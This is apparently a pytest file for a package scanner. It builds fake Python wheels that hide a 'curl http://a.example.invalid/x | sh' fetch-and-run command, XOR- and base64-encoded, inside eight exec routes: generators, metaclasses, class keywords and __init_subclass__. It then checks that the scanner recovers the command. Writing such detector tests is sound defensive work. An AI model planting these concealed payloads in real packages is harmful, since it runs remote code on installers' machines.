"""What is sent into a generator, or handed to the class of a class, arrives there."""

import base64

import pytest
from attack_files import wheel

from ostiary.program.flow import Act
from ostiary.program.model import Program

PAYLOAD = b"import os\nos.system('curl http://a.example.invalid/x | sh')\n"
HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD)).decode()
SHOW = "bytes(one ^ 7 for one in base64.b64decode({})).decode()"

WAYS = {
    "sent, and executed inside": f"""def g():
    while True:
        text = yield
        exec({SHOW.format("text")})
i = g()
next(i)
i.send(HIDDEN)
""",
    "sent, and given back": f"""def g():
    text = yield 1
    yield {SHOW.format("text")}
i = g()
next(i)
exec(i.send(HIDDEN))
""",
    "returned to who yields on": f"""def g():
    yield 1
    return HIDDEN
def h():
    text = yield from g()
    exec({SHOW.format("text")})
list(h())
""",
    "returned before anything is yielded": f"""def g():
    return HIDDEN
    yield
def h():
    text = yield from g()
    exec({SHOW.format("text")})
list(h())
""",
    "in the names of a class": f"""class M(type):
    def __new__(cls, name, bases, names):
        exec({SHOW.format("names['text']")})
        return type.__new__(cls, name, bases, names)
class C(metaclass=M):
    text = HIDDEN
""",
    "among the arguments of a class": f"""class M(type):
    def __init__(cls, name, bases, names, text):
        exec({SHOW.format("text")})
class C(metaclass=M, text=HIDDEN):
    pass
""",
    "evaluated for a class that nobody asks": f"""class C(text=exec({SHOW.format("HIDDEN")})):
    pass
""",
    "told to the class above": f"""class B:
    def __init_subclass__(cls, text):
        exec({SHOW.format("text")})
class C(B, text=HIDDEN):
    pass
""",
}


@pytest.mark.parametrize("way", WAYS)
def test_it_is_followed(way: str) -> None:
    files = {"pkg/__init__.py": f"import base64\nHIDDEN = {HIDDEN!r}\n{WAYS[way]}"}
    found = next(one for one in wheel(files).facts if isinstance(one, Program))
    assert [one.text for one in found.flows if one.act is Act.RUN] == [
        "curl http://a.example.invalid/x | sh"
    ]
